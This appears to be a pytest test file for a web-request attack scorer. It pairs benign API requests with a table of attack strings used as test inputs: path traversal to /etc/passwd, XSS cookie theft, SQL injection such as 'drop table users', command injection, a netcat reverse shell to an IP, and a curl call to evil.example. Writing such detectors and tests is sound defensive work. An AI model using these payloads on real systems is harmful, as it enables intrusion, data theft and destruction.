"""The suspicious-request scorer: ordinary traffic scores 0, attacks score and name a signal."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lensguard.guard.suspicious import MAX_SCORE, decoded_forms, score

BENIGN = [
    ("/api/v1/users", ""),
    ("/api/v1/users/0123456789abcdef0123456789abcdef", ""),
    ("/api/v1/devices/3fa85f64-5717-4562-b3fc-2c963f66afa6", ""),
    ("/api/v1/recordings", "from=2024-05-01T10:00:00Z&to=2024-05-01T11:00:00%2B02:00"),
    ("/api/v1/recordings", "since=2024-05-01T10:00:00.123456+00:00"),
    ("/api/v1/sessions", "all_users=true&user_id=0123456789abcdef0123456789abcdef"),
    ("/api/v1/search", "q=%7B%22site%22%3A%22north%22%2C%22tags%22%3A%5B%22a%22%2C%22b%22%5D%7D"),
    ("/api/v1/search", 'filter={"path":"/*","args":["--verbose"],"tag":"#blue"}'),
    ("/api/v1/search", "q=o%27brien&sort=-created_at"),
    ("/api/v1/search", "q=select+a+camera+and+drop+zone"),
    ("/api/v1/search", "q=dogs%3B+cat+food+and+rock+%26+roll"),
    ("/api/v1/search", "q=union+station+north+entrance"),
    ("/api/v1/search", "q=50%25+off&lang=C%2B%2B"),
    ("/api/v1/users", "email=ada%40example.com&limit=50&offset=100"),
    ("/api/v1/auth/login", "redirect=https%3A%2F%2Fexample.com%2Fpath%3Fa%3D1%26b%3D2"),
    ("/api/v1/files/report.v2.final.pdf", ""),
    ("/.well-known/jwks.json", ""),
    ("/openapi.json", ""),
    ("/healthz", ""),
    ("/api/v1/devices", "name=cam-01_north&onboarding=true&matrix=a;id=2"),
    ("/api/v1/events", "range=bytes%3D0-1023&ts=1714557600.123&tags=a,b;c"),
    ("/api/v1/search", "q=it%27s+a+--great--+day"),
]

MALICIOUS = [
    ("/../../etc/passwd", "", "path_traversal"),
    ("/api/v1/files/..%2f..%2fetc%2fpasswd", "", "path_traversal"),
    ("/api/v1/files/%252e%252e%252fsecret", "", "path_traversal"),
    ("/api/v1/files/%25252e%25252e%25252fsecret", "", "path_traversal"),
    ("/static/..\\..\\windows\\win.ini", "", "path_traversal"),
    ("/api/v1/files", "path=../../config.yaml", "path_traversal"),
    ("/api/v1/files/a%00.png", "", "null_byte"),
    ("/api/v1/search", "q=<script>alert(1)</script>", "script_injection"),
    ("/api/v1/search", "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "script_injection"),
    ("/api/v1/auth/login", "next=javascript:alert(document.cookie)", "script_injection"),
    ("/api/v1/search", "q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E", "script_injection"),
    ("/api/v1/search", "q=<svg/onload=alert(1)>", "script_injection"),
    ("/api/v1/users", "id=1' or '1'='1", "sql_injection"),
    ("/api/v1/users", "id=1%27%20OR%20%271%27%3D%271", "sql_injection"),
    ("/api/v1/users", "id=1 or 1=1", "sql_injection"),
    ("/api/v1/search", "q=1+union+select+username,password+from+users", "sql_injection"),
    ("/api/v1/search", "q=1 UNION/**/SELECT null,null", "sql_injection"),
    ("/api/v1/users", "name=x'; drop table users;--", "sql_injection"),
    ("/api/v1/users", "username=admin'--", "sql_injection"),
    ("/api/v1/users", "id=1 and sleep(5)", "sql_injection"),
    ("/api/v1/tools/ping", "host=127.0.0.1;cat /etc/passwd", "command_injection"),
    ("/api/v1/tools/ping", "host=127.0.0.1%3Bid", "command_injection"),
    ("/api/v1/tools/ping", "host=127.0.0.1%0a%0a++id", "command_injection"),
    ("/api/v1/tools/ping", "host=$(whoami)", "command_injection"),
    ("/api/v1/tools/ping", "host=`id`", "command_injection"),
    ("/api/v1/tools/ping", "ip=8.8.8.8|nc -e /bin/sh 203.0.113.9 4444", "command_injection"),
    ("/api/v1/tools/ping", "ip=8.8.8.8%26%26curl+-s+evil.example", "command_injection"),
]


@pytest.mark.parametrize(("path", "query"), BENIGN)
def test_benign_requests_score_zero(path: str, query: str) -> None:
    finding = score(path, query)
    assert (finding.score, finding.signals) == (0, [])


@pytest.mark.parametrize(("path", "query", "signal"), MALICIOUS)
def test_attacks_score_and_name_their_signal(path: str, query: str, signal: str) -> None:
    finding = score(path, query)
    assert signal in finding.signals
    assert 50 <= finding.score <= MAX_SCORE


def test_tables_are_large_enough() -> None:
    assert len(BENIGN) >= 15
    assert len(MALICIOUS) >= 20


def test_several_signals_add_up_to_at_most_the_maximum() -> None:
    finding = score("/a/../../etc/passwd%00", "q=<script>x</script>&id=1' or '1'='1")
    assert finding.score == MAX_SCORE
    assert {"path_traversal", "null_byte", "script_injection", "sql_injection"} <= set(
        finding.signals
    )


def test_double_encoding_is_a_signal_only_alongside_an_attack() -> None:
    assert "multiple_encoding" in score("/files/%252e%252e%252fx", "").signals
    assert score("/files/a%2520b", "").score == 0


def test_decoding_stops_after_three_rounds() -> None:
    assert decoded_forms("%2525252e") == ["%2525252e", "%25252e", "%252e", "%2e"]
    # A fourth round would be needed to reach "../": not decoded, but %2e%2e still counts.
    assert "path_traversal" in score("/%2525252e%2525252e%2525252f", "").signals


@given(st.text(max_size=300), st.text(max_size=300))
def test_score_never_raises_and_stays_in_range(path: str, query: str) -> None:
    finding = score(path, query)
    assert 0 <= finding.score <= MAX_SCORE
    assert (finding.score == 0) == (finding.signals == [])


def test_huge_input_is_bounded() -> None:
    assert score("/a" * 100_000, "q=" + "x" * 100_000).score == 0


@pytest.mark.parametrize(
    "query",
    [
        "q='" + " " * 8_000,
        "q='" + "\n" * 8_000,
        "q=" + "/* " * 3_000,
        "q=' or " + "a" * 8_000,
        "q= or " + "1" * 8_000,
        "q=" + "`ls " * 2_000,
    ],
)
def test_adversarial_input_takes_linear_time(query: str) -> None:
    # Each of these took 0.1 s or more with a backtracking pattern: a cheap CPU lever.
    started = time.perf_counter()
    score("/a", query)
    assert time.perf_counter() - started < 0.05
